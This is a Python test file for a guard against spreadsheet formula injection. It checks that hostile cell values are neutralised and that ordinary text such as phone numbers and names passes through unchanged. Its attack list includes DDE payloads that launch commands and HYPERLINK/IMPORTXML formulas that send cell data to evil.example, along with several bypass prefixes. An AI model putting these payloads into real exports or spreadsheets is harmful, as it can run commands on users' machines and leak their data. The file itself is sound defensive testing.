"""Tests of the guard against formulas: attacks, what people write, and that every text reads back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runtime.records.formula_guard import guarded, plain

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"Open")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "+1+A1",
    "-A1",
    "@A1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "\rtext",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2003\u2003=1+1",
    "\x00=1+1",
    "\x1f@A1",
    "\uff1d1+1",  # full-width: some programs fold it
    "\uff0b1+A1",
    "\uff20A1",
    "'=1+1",
    "+358 40 123;=A1",
    "-",
    "=",
]
"""Cells that a spreadsheet would run, or that would end up so."""

HARMLESS = [
    "-5",
    "-12.50 EUR",
    "+358 40 123 4567",
    "+358401234567",
    "+1 (202) 555-0143",
    "-0,5 %",
    "12-34",
    "a=b",
    "ada@example.com",
    "O'Brien",
    "'quoted'",
    "Ääkkönen, Oy",
    "1 + 1",
    "",
    "'",
    " leading blank",
]
"""What people write; it stays as it is."""


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str):
    assert guarded(text) == "'" + text
    assert plain(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_telephone_numbers_and_words_stay_as_they_are(text: str):
    assert guarded(text) == text
    assert plain(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n a1\u200b\uff1d;,\"")))
def test_every_text_reads_back(text: str):
    assert plain(guarded(text)) == text
    assert guarded(text)[:1] not in set("=@\t\r\n") if text else guarded(text) == ""
